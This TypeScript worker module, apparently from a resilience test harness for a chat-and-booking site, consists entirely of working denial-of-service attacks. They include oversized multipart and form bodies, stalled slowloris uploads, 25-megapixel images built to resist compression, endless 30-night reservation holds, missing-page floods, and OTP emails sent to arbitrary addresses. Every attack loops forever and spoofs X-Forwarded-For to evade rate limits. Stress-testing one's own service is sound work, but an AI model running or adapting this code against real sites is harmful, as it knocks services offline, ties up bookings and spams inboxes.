import { randomBytes, randomInt } from 'node:crypto'
import { connect } from 'node:net'
import { constants, setPriority } from 'node:os'
import { setTimeout as wait } from 'node:timers/promises'
import { parentPort, workerData } from 'node:worker_threads'
import sharp from 'sharp'

/** The way in which a thread of this file goes against the site at `url`, until it is ended. */
export type Order = { attack: AttackName; url: string }
export type AttackName = keyof typeof attacks

const { attack, url } = workerData as Order
const multipart = { 'content-type': 'multipart/form-data; boundary=x' }
const part = '--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n\r\n'

/** Attacks of strangers, each from the few addresses that one person has. */
const attacks = {
  'forms of 155,000 parts': () => {
    const body = `${part.repeat(155_000)}--x--\r\n`
    return crowd(2, () =>
      send('/api/chat_upload.php', { method: 'POST', headers: multipart, body }),
    )
  },
  'forms of 2,800,000 fields': () => {
    const headers = { 'content-type': 'application/x-www-form-urlencoded' }
    const body = 'a=&'.repeat(2_800_000)
    return crowd(2, () => send('/api/chat_upload.php', { method: 'POST', headers, body }))
  },
  'bodies that never end': () => crowd(40, beginBody),
  'pictures of 25 million pixels': async () => {
    const file = await stripes()
    const chats = await Promise.all([startChat(), startChat()])
    return crowd(8, (at) => upload(chats[at % 2] ?? '', file, 'picture.png'))
  },
  'files of 8 MB': async () => {
    const file = new Blob(['PK\x03\x04', randomBytes(8_000_000)])
    const chats = await Promise.all([startChat(), startChat(), startChat()])
    return crowd(6, (at) => upload(chats[at % 3] ?? '', file, 'file.zip'))
  },
  'pages that nobody has': () => crowd(12, () => send(`/fill-${randomInt(1e9)}.abc`)),
  'holds of thirty nights': () => crowd(4, hold),
  'codes for anybody': () =>
    crowd(40, () =>
      send('/api/admin_send_otp.php', {
        method: 'POST',
        body: new URLSearchParams({ email: `someone${randomInt(1e9)}@example.com` }),
      }),
    ),
} satisfies Record<string, () => Promise<unknown>>

// What an attacker computes is not the site's work. On Linux this is the priority of this thread alone.
setPriority(constants.priority.PRIORITY_LOW)

if (parentPort) await attacks[attack]()

/** So many at once, each going on for ever. */
async function crowd(size: number, work: (at: number) => Promise<unknown>): Promise<void> {
  const goOn = async (at: number) => {
    for (;;) {
      await work(at).catch(() => tell('cut'))
      await wait(5)
    }
  }
  await Promise.all(Array.from({ length: size }, (_, at) => goOn(at)))
}

async function send(path: string, { headers, ...init }: RequestInit = {}): Promise<Response> {
  const from = { 'x-forwarded-for': `198.51.100.${randomInt(1, 4)}` }
  const answer = await fetch(url + path, { ...init, headers: { ...headers, ...from } })
  await answer.clone().arrayBuffer()
  tell(String(answer.status))
  return answer
}

function tell(what: string): void {
  parentPort?.postMessage(what)
}

// Eight megabytes, and then nothing: as long as the site waits.
function beginBody(): Promise<void> {
  const { port } = new URL(url)
  const head = `POST /api/chat_upload.php HTTP/1.1\r\nHost: localhost:${port}\r\nX-Forwarded-For: 198.51.100.${randomInt(1, 4)}\r\n`
  return new Promise((resolve) => {
    const socket = connect(Number(port), 'localhost')
    socket.on('error', () => undefined)
    socket.once('data', (answer) => tell(answer.subarray(9, 12).toString()))
    socket.on('close', () => resolve())
    socket.write(
      `${head}Content-Type: ${multipart['content-type']}\r\nContent-Length: 8448000\r\n\r\n`,
    )
    socket.write(Buffer.alloc(8_388_608, 97))
  })
}

async function startChat(): Promise<string> {
  const body = JSON.stringify({ name: 'Visitor', mobile: '+91 9876543210' })
  const headers = { 'content-type': 'application/json' }
  const answer = await send('/api/chat_start.php', { method: 'POST', headers, body })
  const cookie = answer.headers.getSetCookie().map((one) => one.split(';')[0])
  const { chat_id } = await answer.json()
  return JSON.stringify({ chat_id, cookie: cookie.join('; ') })
}

function upload(chat: string, file: Blob, name: string): Promise<Response> {
  const { chat_id, cookie } = JSON.parse(chat)
  const body = new FormData()
  const id = crypto.randomUUID()
  const type = name.endsWith('.png') ? 'image' : 'file'
  for (const [key, value] of Object.entries({ chat_id, message_type: type, client_message_id: id }))
    body.set(key, value)
  body.set('file', file, name)
  return send('/api/chat_upload.php', { method: 'POST', headers: { cookie }, body })
}

// Lines that no compression makes quick to read.
async function stripes(): Promise<Blob> {
  const side = 4_990
  const pixels = Buffer.alloc(side * side)
  for (let at = 0; at < pixels.length; at++) pixels[at] = (at % side) & 1 ? 255 : 0
  const raw = { width: side, height: side, channels: 1 } as const
  const png = await sharp(pixels, { raw }).png({ progressive: true }).toBuffer()
  return new Blob([Uint8Array.from(png)])
}

function hold(): Promise<Response> {
  const first = Date.now() + randomInt(2, 300) * 86_400_000
  const day = (days: number) => new Date(first + days * 86_400_000).toISOString().slice(0, 10)
  const body = JSON.stringify({
    roomType: 'Valley-View Cottage',
    checkIn: day(0),
    checkOut: day(30),
    guests: 2,
  })
  const headers = { 'content-type': 'application/json' }
  return send('/api/holds', { method: 'POST', headers, body })
}
